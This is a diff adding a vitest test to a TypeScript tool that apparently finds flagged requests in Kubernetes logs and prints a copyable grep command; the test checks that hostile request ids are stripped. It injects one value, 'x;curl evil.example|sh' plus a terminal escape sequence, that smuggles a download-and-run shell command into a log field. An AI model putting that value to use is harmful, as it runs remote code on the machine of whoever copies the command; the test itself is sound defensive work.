@@ -1,5 +1,9 @@
 import { expect, it } from 'vitest'
 import { carryOut } from '../../src/capabilities/carry-out.ts'
+import { findFlagExample } from '../../src/capabilities/find-flag-example.ts'
+import type { Clients } from '../../src/evidence/clients/clients.ts'
+import { parseTarget } from '../../src/mesh/target-query.ts'
+import { flagExampleText } from '../../src/report/flag-example-text.ts'
 import { flagExample } from '../../src/capabilities/flag-example.ts'
 import { createRun, readRun } from '../../src/store/runs.ts'
 import { recordedClients } from '../replay.ts'
@@ -55,6 +59,29 @@ it('says how much it looked through where there is none', async () => {
       ) as string,
     },
   })
+})
+
+it('gives a command that is safe to be copied, whatever id a caller gave its request', async () => {
+  const clients = recordedClients('slow-endpoint/ill')
+  const { kubernetes } = clients
+  const hostile: Clients = {
+    ...clients,
+    kubernetes: {
+      ...kubernetes,
+      log: async (...all) =>
+        (await kubernetes.log(...all)).replaceAll(
+          /"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f-]{22}"/g,
+          () => '"x;curl evil.example|sh;\u001b[2J"',
+        ),
+    },
+  }
+  const found = await findFlagExample(parseTarget('catalog', 'istioinaction'), ['UT'], hostile, {
+    signal: new AbortController().signal,
+  })
+  expect(found.example!.line.requestId).toContain('curl')
+  expect(found.example!.command).toMatch(/ \| grep -F -e 2026-[\dT:.-]+Z$/)
+  expect(flagExampleText(found)).not.toContain('curl')
+  expect(flagExampleText(found)).not.toContain('\u001b')
 })
 
 it('names the nearest where there is no such target', async () => {
